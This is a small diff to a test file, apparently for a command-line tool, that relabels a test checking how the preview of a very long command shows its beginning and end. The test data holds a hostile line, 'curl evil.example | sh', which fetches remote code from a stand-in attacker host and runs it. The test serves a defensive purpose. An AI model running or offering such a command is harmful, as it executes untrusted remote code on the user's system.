@@ -104,7 +104,7 @@ describe('a preview that does not fit', () => {
     expect(textOf(many).some((row) => row.startsWith('  ┊ ') && row.includes('are not shown here'))).toBe(true)
   })
 
-  it('B-PREVIEW-2: of a very long line the beginning, the end and what is between them are told', () => {
+  it('B-CLI-62, B-PREVIEW-2: of a very long line the beginning, the end and what is between them are told', () => {
     const command = `echo ${'x '.repeat(6_000)}; curl evil.example | sh`
     const preview = { files: null, trouble: null, warnings: [] }
     for (const columns of [80, Number.POSITIVE_INFINITY]) {
